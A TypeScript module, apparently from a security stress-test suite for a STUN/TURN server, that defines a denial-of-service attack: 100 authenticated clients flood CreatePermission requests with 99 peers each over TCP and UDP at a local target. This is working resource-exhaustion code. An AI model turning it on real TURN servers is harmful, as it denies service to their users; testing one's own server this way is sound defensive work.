// CreatePermission with 99 peers, again and again, by users with good credentials: each request is a hundred table entries and two HMACs.
import { randomBytes } from 'node:crypto';
import { peerAddress } from '../../../stun/test/contracts/stun-message.ts';
import { TurnClient } from '../../../stun/test/contracts/turn-client.ts';
import type { Attack, Target } from '../attack.ts';
import { mint, type Login } from '../honest/turn.ts';
import { crowd, did, pause } from '../raw-socket.ts';

const CLIENTS = 100;
const REQUESTS_AT_ONCE = 20;

/** One for each address: minting is limited. */
const logins = new Map<string, Promise<Login>>();
export function loginOf(target: Target, address: string): Promise<Login> {
  const login = logins.get(address) ?? mint(target, address);
  logins.set(address, login);
  return login;
}

const attackBy = (id: string, transport: 'udp' | 'tcp'): Attack => ({
  id,
  title: `CreatePermission with 99 peers over ${transport.toUpperCase()}, ${CLIENTS} users`,
  service: 'stun',
  run: (target) =>
    crowd(async ({ address }) => {
      const at = { transport, host: '127.0.0.1', port: target.port };
      const client = await TurnClient.connect(at, await loginOf(target, address), { from: address });
      try {
        await client.allocated();
        const requests = Buffer.concat(
          Array.from({ length: transport === 'tcp' ? REQUESTS_AT_ONCE : 1 }, () => permission(client)),
        );
        while (!client.isClosed) {
          client.sendBytes(requests);
          did.sentBytes += requests.length;
          await pause(transport === 'tcp' ? 5 : 0);
        }
      } finally {
        client.close();
      }
    }, CLIENTS),
});

function permission(client: TurnClient): Buffer {
  const id = randomBytes(12);
  const peers = Array.from({ length: 99 }, (_, index) =>
    peerAddress({ address: `198.51.100.${index + 1}`, port: 9 }, id),
  );
  return client.encode('createPermission', peers, id);
}

export const overTcp: Attack = { ...attackBy('8a', 'tcp'), isShort: true };
export const overUdp = attackBy('8b', 'udp');
